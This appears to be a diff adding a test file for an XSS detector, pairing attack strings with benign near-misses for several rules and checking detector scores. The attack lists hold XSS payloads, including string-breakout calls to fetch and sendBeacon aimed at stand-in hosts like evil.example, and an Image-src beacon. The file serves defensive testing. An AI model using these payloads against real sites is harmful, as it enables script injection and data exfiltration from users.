@@ -1,0 +1,45 @@
+import assert from "node:assert/strict";
+import { describe, it } from "node:test";
+import { xssDetector } from "../src/detectors/xss/index.js";
+import { BLOCKS, scoreOf } from "./helpers.js";
+
+function score(raw: string): number {
+  return scoreOf(xssDetector, raw, "query", "q");
+}
+
+const RULES: Record<string, { readonly attacks: readonly string[]; readonly benign: readonly string[] }> = {
+  "leaving a JS string to call any function": {
+    attacks: [
+      "';fetch('//evil.example')//",
+      '");navigator.sendBeacon("//e.example",1);//',
+      "'}top.print();{'",
+      '"-(0,confirm)(1)-"',
+      "\\';open('//x.example')//",
+      '"}];console.log(1);//',
+    ],
+    benign: ["'hello'; call(me) maybe", "'; it's fine", '"quoted" (see note) //', "');", "'-' is a dash", '"x"; y(z) and more'],
+  },
+  "a property write after a call or bracket": {
+    attacks: ["new Image().src='//evil.example/?'+1", "a[0].innerHTML='<b>x</b>'"],
+    benign: ["if (img.src == other.src)", "Image().src is a property"],
+  },
+  "words in angle brackets": {
+    attacks: ["<select onfocus=alert(1) autofocus>", "<input autofocus>", "<a href=//evil.example>x</a>"],
+    benign: ["<select the best>", "<order by price>", "<set the table>", "<update your profile>"],
+  },
+  "a bare tag glued between letters": {
+    attacks: ["<b>bold</b>", "x<script>y", "a<img src=x>c"],
+    benign: ["a<b>c", "x<i>y", "1<p>2"],
+  },
+};
+
+describe("xssDetector on script and markup shapes", () => {
+  for (const [rule, { attacks, benign }] of Object.entries(RULES)) {
+    it(`blocks: ${rule}`, () => {
+      for (const value of attacks) assert.ok(score(value) >= BLOCKS, `missed ${JSON.stringify(value)}: ${score(value)}`);
+    });
+    it(`lets near misses through: ${rule}`, () => {
+      for (const value of benign) assert.ok(score(value) < BLOCKS, `false positive on ${JSON.stringify(value)}: ${score(value)}`);
+    });
+  }
+});
